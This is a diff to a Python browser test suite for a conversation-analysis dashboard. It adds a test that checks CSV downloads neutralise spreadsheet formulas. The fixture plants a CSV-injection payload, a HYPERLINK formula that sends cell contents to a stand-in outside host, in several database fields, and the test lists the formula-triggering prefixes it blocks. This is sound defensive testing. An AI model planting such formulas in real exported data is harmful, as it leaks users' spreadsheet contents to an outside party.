@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import re
 import shutil
@@ -17,6 +18,7 @@ from tests.support import synthetic
 from tests.support.browser import HOSTILE, Watched, calm, go, settled
 
 HOSTILE_ID = "hostile"
+FORMULA_ID, FORMULA = "calculating", '=HYPERLINK("https://outside.example/?"&A1,"more")'
 
 
 @pytest.fixture(scope="module")
@@ -29,6 +31,11 @@ def published(tmp_path_factory: pytest.TempPathFactory) -> Path:
             "update fct_kura__conversations set summary = ?, request = ?, user_id = ?, topic = ? where conversation_id ="
             " (select max(conversation_id) from fct_kura__conversations where cluster_id = 't8m7')",
             [HOSTILE, HOSTILE, HOSTILE_ID, HOSTILE],
+        )
+        connection.execute(
+            "update fct_kura__conversations set summary = ?, request = ?, topic = ?, user_id = ? where conversation_id ="
+            " (select min(conversation_id) from fct_kura__conversations where cluster_id = 't8m7')",
+            [FORMULA, FORMULA, FORMULA, FORMULA_ID],
         )
         leaf = "'t8m7'"
         connection.execute(
@@ -219,7 +226,7 @@ def test_what_strangers_wrote_is_shown_letter_by_letter(page: Page, ask: Callabl
     expect(page.locator("h1")).to_contain_text("**bold** :red[red] $x^2$")
     assert leaf in page.url
     go(page, "Conversations")
-    page.get_by_label("User", exact=True).fill(HOSTILE_ID)
+    page.get_by_label("Search", exact=True).fill("owned")
     page.keyboard.press("Enter")
     calm(page)
     counts(page, 1)
@@ -246,6 +253,24 @@ def test_a_download_holds_what_was_filtered_and_no_formula(page: Page, ask: Call
             f"select count(*), count(distinct conversation_id) from read_csv('{download.value.path()}')"
         ).fetchall()
     assert rows == [(ask("select count(*) from fct_kura__conversations where user_frustration = 5"),) * 2]
+
+
+def test_the_toolbar_of_a_table_saves_no_formula(page: Page) -> None:
+    page.add_init_script("delete window.showSaveFilePicker")  # else it asks where to save, which no test can answer
+    page.reload()
+    settled(page, "What people talk about")
+    go(page, "Conversations")
+    page.get_by_label("User", exact=True).fill(FORMULA_ID)
+    page.keyboard.press("Enter")
+    calm(page)
+    counts(page, 1)
+    page.get_by_test_id("stDataFrame").first.hover()
+    with page.expect_download() as download:
+        page.get_by_test_id("stElementToolbar").get_by_label("Download as CSV").first.click()
+    saved = Path(download.value.path()).read_text("utf-8-sig")
+    cells = [cell for row in csv.reader(saved.splitlines()) for cell in row]
+    assert f"'{FORMULA}" in cells
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
 
 
 def test_a_narrow_window_needs_no_sideways_scrolling(
